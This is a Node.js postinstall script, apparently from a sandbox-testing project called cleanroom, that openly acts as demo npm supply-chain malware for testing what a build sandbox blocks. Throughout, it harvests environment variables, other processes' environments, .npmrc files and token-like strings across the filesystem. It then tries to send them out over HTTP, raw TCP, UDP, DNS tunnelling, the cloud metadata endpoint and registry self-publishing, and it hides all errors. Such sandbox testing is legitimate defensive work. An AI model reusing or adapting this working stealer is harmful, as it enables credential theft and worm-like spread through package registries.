'use strict';
// DEMO MALWARE — part of cleanroom's examples. It does what real npm
// supply-chain malware does in a postinstall script: collect secrets from the
// environment, other processes and the filesystem, then try every common way
// to send them out. Each attempt prints its outcome so a cleanroom build log
// shows exactly what the sandbox allowed.
//
// NEVER run this outside a lab network namespace: the addresses below exist
// only in cleanroom's test lab. To try it by hand, use a namespace with no
// links at all (`ip netns add x; ip netns exec x node postinstall.js`).
//
// Like real malware it never fails the install: every error is swallowed and
// the script always exits 0.

const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const net = require('net');
const dgram = require('dgram');
const dns = require('dns');
const childProcess = require('child_process');

const ATTACKER = '10.231.253.2';
const PUBLIC_RESOLVER = '198.51.100.53';
const ATTACKER_V6 = 'fd00:bad::2';
const METADATA = '169.254.169.254';
// The internal registry, as the project's lockfile names it, and the
// address that name had when the lockfile was made.
const REGISTRY_HOST = 'registry.cleanroom.test';
const REGISTRY_IP = '10.231.254.2';
const REGISTRY_PORT = 4873;
const TIMEOUT_MS = 1500;

function log(msg) {
  try {
    process.stdout.write('[telemetry-helper] ' + msg + '\n');
  } catch (_) { /* stay quiet */ }
}

process.on('uncaughtException', (e) => log('swallowed error: ' + (e && e.message)));
process.on('unhandledRejection', (e) => log('swallowed rejection: ' + (e && e.message)));

// Strings that look like credentials.
const TOKEN_PATTERNS = [
  /npm_[A-Za-z0-9]{36}/g,
  /_authToken\s*=\s*[^\s"']+/g,
  /gh[pousr]_[A-Za-z0-9]{36,}/g,
  /AKIA[0-9A-Z]{16}/g,
  /xox[abpr]-[A-Za-z0-9-]{10,}/g,
  /-----BEGIN [A-Z ]*PRIVATE KEY-----/g,
  /\b[A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|API_KEY|APIKEY)[A-Z0-9_]*\s*[=:]\s*[^\s"']{6,}/g,
];
const SECRET_NAME = /TOKEN|SECRET|PASSWORD|PASSWD|API_KEY|APIKEY|CREDENTIAL|AUTH/i;

const loot = []; // {source, value}
function addLoot(source, value) {
  value = String(value).slice(0, 512);
  if (!loot.some((l) => l.value === value)) loot.push({ source, value });
}
function scanText(source, text) {
  let n = 0;
  for (const re of TOKEN_PATTERNS) {
    re.lastIndex = 0;
    for (const m of text.match(re) || []) {
      addLoot(source, m);
      n++;
    }
  }
  return n;
}

// 1. The environment.
function stealEnv() {
  const keys = Object.keys(process.env);
  log(`env: ${keys.length} variables`);
  for (const k of keys.sort()) {
    log(`env: ${k}=${process.env[k]}`);
    if (SECRET_NAME.test(k)) addLoot('env:' + k, `${k}=${process.env[k]}`);
  }
}

// 2. Other processes' environments.
function stealProcEnviron() {
  let pids = [];
  try {
    pids = fs.readdirSync('/proc').filter((d) => /^\d+$/.test(d));
  } catch (e) {
    log(`/proc/*/environ: cannot list /proc (${e.code || e.message})`);
    return;
  }
  let read = 0;
  let denied = 0;
  for (const pid of pids) {
    if (pid === String(process.pid)) continue;
    try {
      const vars = fs.readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0');
      read++;
      for (const kv of vars) {
        const k = kv.split('=')[0];
        if (k && SECRET_NAME.test(k)) addLoot(`/proc/${pid}/environ`, kv);
      }
    } catch (_) {
      denied++;
    }
  }
  log(`/proc/*/environ: ${pids.length} processes visible, ${read} environments read, ${denied} denied`);
}

// 3. Well-known credential files, then a bounded search of the filesystem.
function stealFiles() {
  const home = os.homedir();
  const known = [
    path.join(home || '/root', '.npmrc'),
    '/root/.npmrc',
    '/etc/npmrc',
    path.join(process.cwd(), '.npmrc'),
    process.env.INIT_CWD ? path.join(process.env.INIT_CWD, '.npmrc') : null,
    process.env.NPM_CONFIG_USERCONFIG || process.env.npm_config_userconfig || null,
  ].filter(Boolean);
  try {
    for (const f of fs.readdirSync('/etc/cleanroom')) known.push(path.join('/etc/cleanroom', f));
  } catch (e) {
    log(`/etc/cleanroom: ${e.code || e.message}`);
  }
  for (const f of [...new Set(known)]) {
    try {
      const text = fs.readFileSync(f, 'utf8');
      const n = scanText(f, text);
      log(`read ${f}: ${text.length} bytes, ${n} token-looking strings`);
      if (/npmrc$/.test(f) || f.startsWith('/etc/cleanroom/')) addLoot(f, text.slice(0, 512));
    } catch (e) {
      log(`read ${f}: ${e.code || e.message}`);
    }
  }

  // Bounded walk: likely places first, then the rest of /.
  const deadline = Date.now() + 2500;
  const skip = new Set(['/proc', '/sys', '/dev']);
  const queue = [home, '/root', '/home', '/etc', '/tmp', '/workspace', process.cwd(), '/var', '/opt', '/srv', '/']
    .filter(Boolean);
  const seen = new Set();
  let dirs = 0;
  let files = 0;
  let hits = 0;
  let denied = 0;
  while (queue.length && Date.now() < deadline && files < 3000) {
    const dir = queue.shift();
    if (seen.has(dir) || skip.has(dir)) continue;
    seen.add(dir);
    let entries;
    try {
      entries = fs.readdirSync(dir, { withFileTypes: true });
      dirs++;
    } catch (_) {
      denied++;
      continue;
    }
    for (const e of entries) {
      const p = path.join(dir, e.name);
      if (e.isDirectory()) {
        if (e.name !== 'node_modules' && p.split('/').length <= 8) queue.push(p);
        continue;
      }
      if (!e.isFile() || files >= 3000) continue; // never open fifos, sockets or devices
      files++;
      try {
        const st = fs.statSync(p);
        if (st.size > 128 * 1024) continue;
        const text = fs.readFileSync(p, 'latin1');
        const n = scanText(p, text);
        if (n > 0) {
          hits++;
          log(`search: ${p}: ${n} token-looking strings`);
        }
      } catch (_) {
        denied++;
      }
    }
  }
  log(`search /: ${dirs} folders, ${files} files looked at, ${hits} with tokens, ${denied} unreadable` +
    (Date.now() >= deadline ? ' (stopped at time budget)' : ''));
}

// 4. Encode the loot the ways exfiltration code does.
function encodeLoot() {
  if (loot.length === 0) {
    log('loot: nothing found');
    return 'nothing-found';
  }
  for (const l of loot) {
    log(`loot from ${l.source}: base64=${Buffer.from(l.value).toString('base64')}`);
    log(`loot from ${l.source}: url=${encodeURIComponent(l.value)}`);
  }
  return JSON.stringify(loot).slice(0, 4096);
}

// 5. Exfiltration attempts. Each resolves to an outcome string, never rejects.
function withTimeout(name, fn) {
  return new Promise((resolve) => {
    let done = false;
    const finish = (outcome) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      log(`${name}: ${outcome}`);
      resolve();
    };
    const timer = setTimeout(() => finish(`timed out after ${TIMEOUT_MS} ms`), TIMEOUT_MS);
    try {
      fn(finish);
    } catch (e) {
      finish(`failed: ${e.code || e.message}`);
    }
  });
}

function httpAttempt(name, opts, body) {
  return withTimeout(name, (finish) => {
    const req = http.request({ ...opts, timeout: TIMEOUT_MS }, (res) => {
      finish(`SENT — got HTTP ${res.statusCode}`);
      res.resume();
    });
    req.on('error', (e) => finish(`failed: ${e.code || e.message}`));
    req.on('timeout', () => req.destroy(new Error('ETIMEDOUT')));
    if (body) req.write(body);
    req.end();
  });
}

function tcpAttempt(name, host, port, payload) {
  return withTimeout(name, (finish) => {
    const s = net.connect({ host, port, timeout: TIMEOUT_MS });
    s.on('connect', () => {
      s.end(payload, () => finish(`SENT — connected and wrote ${Buffer.byteLength(payload)} bytes`));
    });
    s.on('error', (e) => finish(`failed: ${e.code || e.message}`));
    s.on('timeout', () => {
      s.destroy();
      finish('failed: ETIMEDOUT');
    });
  });
}

function udpAttempt(name, host, port, payload, waitReply) {
  return withTimeout(name, (finish) => {
    const sock = dgram.createSocket(net.isIPv6(host) ? 'udp6' : 'udp4');
    const close = () => { try { sock.close(); } catch (_) { /* closed */ } };
    sock.on('error', (e) => { close(); finish(`failed: ${e.code || e.message}`); });
    sock.on('message', (m) => { close(); finish(`SENT — got a ${m.length}-byte reply`); });
    sock.send(payload, port, host, (err) => {
      if (err) {
        close();
        finish(`failed: ${err.code || err.message}`);
        return;
      }
      // A datagram "sent" locally may still be dropped; wait briefly for an
      // ICMP error (surfaced as a socket error) or a reply.
      setTimeout(() => {
        close();
        finish(waitReply ? 'datagram left the socket, no reply' : 'datagram left the socket (no error reported)');
      }, waitReply ? 1000 : 300);
    });
  });
}

function dnsQueryPacket(name) {
  const header = Buffer.alloc(12);
  header.writeUInt16BE(Math.floor(Math.random() * 65536), 0); // id
  header.writeUInt16BE(0x0100, 2); // recursion desired
  header.writeUInt16BE(1, 4); // one question
  const labels = name.split('.').filter(Boolean).map((l) => {
    const b = Buffer.from(l.slice(0, 63), 'ascii');
    return Buffer.concat([Buffer.from([b.length]), b]);
  });
  const tail = Buffer.alloc(4);
  tail.writeUInt16BE(1, 0); // A
  tail.writeUInt16BE(1, 2); // IN
  return Buffer.concat([header, ...labels, Buffer.from([0]), tail]);
}

function findInPath(bin) {
  for (const d of (process.env.PATH || '/usr/bin:/bin:/usr/sbin:/sbin').split(':')) {
    try {
      fs.accessSync(path.join(d, bin), fs.constants.X_OK);
      return path.join(d, bin);
    } catch (_) { /* next */ }
  }
  return null;
}

async function exfiltrate(data) {
  const hex = Buffer.from(data).toString('hex').slice(0, 62);
  const dnsName = `${hex}.exfil.example`;
  const attempts = [
    httpAttempt(`HTTP POST http://${ATTACKER}/collect`,
      { host: ATTACKER, port: 80, path: '/collect', method: 'POST', headers: { 'content-type': 'application/json' } },
      data),
    tcpAttempt(`TCP ${ATTACKER}:4444`, ATTACKER, 4444, data),
    udpAttempt(`UDP ${ATTACKER}:5353`, ATTACKER, 5353, Buffer.from(data), false),
    withTimeout(`DNS lookup ${dnsName} (system resolver)`, (finish) => {
      dns.lookup(dnsName, (err, addr) => finish(err ? `failed: ${err.code || err.message}` : `SENT — resolved to ${addr}`));
    }),
    udpAttempt(`DNS query to ${PUBLIC_RESOLVER}:53 for ${dnsName}`, PUBLIC_RESOLVER, 53, dnsQueryPacket(dnsName), true),
    httpAttempt(`HTTP GET http://${METADATA}/latest/meta-data/iam/security-credentials/`,
      { host: METADATA, port: 80, path: '/latest/meta-data/iam/security-credentials/', method: 'GET' }),
    tcpAttempt(`TCP [${ATTACKER_V6}]:443`, ATTACKER_V6, 443, data),
    httpAttempt(`HTTP POST http://${REGISTRY_HOST}:${REGISTRY_PORT}/ (the registry by name)`,
      { host: REGISTRY_HOST, port: REGISTRY_PORT, path: '/', method: 'POST' }, data),
    httpAttempt(`HTTP POST http://${REGISTRY_IP}:${REGISTRY_PORT}/ (the registry by address)`,
      { host: REGISTRY_IP, port: REGISTRY_PORT, path: '/', method: 'POST' }, data),
  ];
  const ping = findInPath('ping');
  if (ping) {
    attempts.push(withTimeout(`ICMP ping ${ATTACKER}`, (finish) => {
      childProcess.execFile(ping, ['-c1', '-W1', ATTACKER], { timeout: TIMEOUT_MS }, (err) =>
        finish(err ? `failed: ${typeof err.code === 'number' ? `ping exited ${err.code}` : (err.code || err.message)}` : 'SENT — got a reply'));
    }));
  } else {
    log(`ICMP ping ${ATTACKER}: skipped (no ping binary)`);
  }
  await Promise.all(attempts);
}

// 6. The registry channel: the internal registry is reachable by design, so
// malware tries it as a write channel and an oracle: create an account
// (adduser answers with a fresh token on many registries), publish itself
// (how the 2025 npm worms spread), search, and fetch what this project's
// lockfile does not hold. The registry is the one npm uses: the environment
// (npm_config_registry) or the npmrc.
function registryURL() {
  let url = process.env.npm_config_registry || process.env.NPM_CONFIG_REGISTRY || '';
  const rc = process.env.npm_config_userconfig || process.env.NPM_CONFIG_USERCONFIG;
  if (rc) {
    try {
      const text = fs.readFileSync(rc, 'utf8');
      const creds = text.split('\n').filter((l) => /_authToken|_auth\b|_password/.test(l)).length;
      log(`registry: ${rc} names ${(text.match(/^registry\s*=\s*(\S+)/m) || [])[1] || 'no registry'}, ${creds} credential line(s)`);
      if (!url) url = (text.match(/^registry\s*=\s*(\S+)/m) || [])[1] || '';
    } catch (e) {
      log(`registry: read ${rc}: ${e.code || e.message}`);
    }
  }
  return url;
}

function registryAttempt(name, base, method, p, body) {
  return withTimeout(`registry ${name}: ${method} ${p}`, (finish) => {
    const u = new URL(p.replace(/^\//, ''), base.endsWith('/') ? base : base + '/');
    const req = http.request(u, { method, timeout: TIMEOUT_MS, headers: { 'content-type': 'application/json' } }, (res) => {
      let b = '';
      res.setEncoding('utf8');
      res.on('data', (d) => { if (b.length < 400) b += d; });
      res.on('end', () => {
        const rule = (b.match(/\(rule ([a-z0-9-]+)\)/) || [])[1];
        finish(res.statusCode < 300 ? `SENT — got HTTP ${res.statusCode}` :
          `refused: HTTP ${res.statusCode}` + (rule ? ` (rule ${rule})` : ` ${b.slice(0, 80).replace(/\s+/g, ' ')}`));
      });
    });
    req.on('error', (e) => finish(`failed: ${e.code || e.message}`));
    req.on('timeout', () => req.destroy(new Error('ETIMEDOUT')));
    if (body) req.write(body);
    req.end();
  });
}

async function abuseRegistry(data) {
  const base = registryURL();
  if (!/^http:\/\//.test(base)) {
    log(`registry: no plain-HTTP registry found (${base || 'none'}), channel skipped`);
    return;
  }
  log(`registry: trying ${base} as a channel`);
  const user = 'telemetry-' + Date.now().toString(36);
  const self = JSON.stringify({
    name: '@cleanroom-demo/telemetry-helper', 'dist-tags': { latest: '1.0.1' },
    versions: { '1.0.1': { name: '@cleanroom-demo/telemetry-helper', version: '1.0.1', loot: data.slice(0, 512) } },
  });
  await Promise.all([
    registryAttempt('adduser', base, 'PUT', `/-/user/org.couchdb.user:${user}`,
      JSON.stringify({ _id: `org.couchdb.user:${user}`, name: user, password: data.slice(0, 64), type: 'user' })),
    registryAttempt('search', base, 'GET', `/-/v1/search?text=${Buffer.from(data).toString('hex').slice(0, 62)}`),
    registryAttempt('publish', base, 'PUT', '/@cleanroom-demo%2ftelemetry-helper', self),
    registryAttempt('tarball not in the lockfile', base, 'GET', '/typescript/-/typescript-5.6.3.tgz'),
    registryAttempt('packument of another name', base, 'GET', '/typescript'),
  ]);
}

async function main() {
  log('postinstall starting (DEMO MALWARE, see cleanroom examples/README.md)');
  for (const step of [stealEnv, stealProcEnviron, stealFiles]) {
    try {
      step();
    } catch (e) {
      log(`${step.name}: swallowed error: ${e.message}`);
    }
  }
  let data = 'nothing-found';
  try {
    data = encodeLoot();
  } catch (e) {
    log(`encode: swallowed error: ${e.message}`);
  }
  try {
    await exfiltrate(data);
  } catch (e) {
    log(`exfiltrate: swallowed error: ${e.message}`);
  }
  try {
    await abuseRegistry(data);
  } catch (e) {
    log(`registry: swallowed error: ${e.message}`);
  }
  log('postinstall done');
}

main().finally(() => process.exit(0));
